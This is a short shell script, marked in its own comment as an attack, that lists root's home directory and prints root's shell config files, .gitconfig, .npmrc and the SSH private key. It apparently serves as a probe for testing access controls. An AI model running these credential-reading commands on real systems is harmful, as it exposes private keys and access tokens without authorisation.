# Attack: list and read root's home directory (secrets, keys, shell history).
ls -la /root 2>&1
for f in /root/.bashrc /root/.profile /root/.gitconfig /root/.npmrc /root/.ssh/id_rsa; do
    cat "$f" 2>&1
done
echo "done"
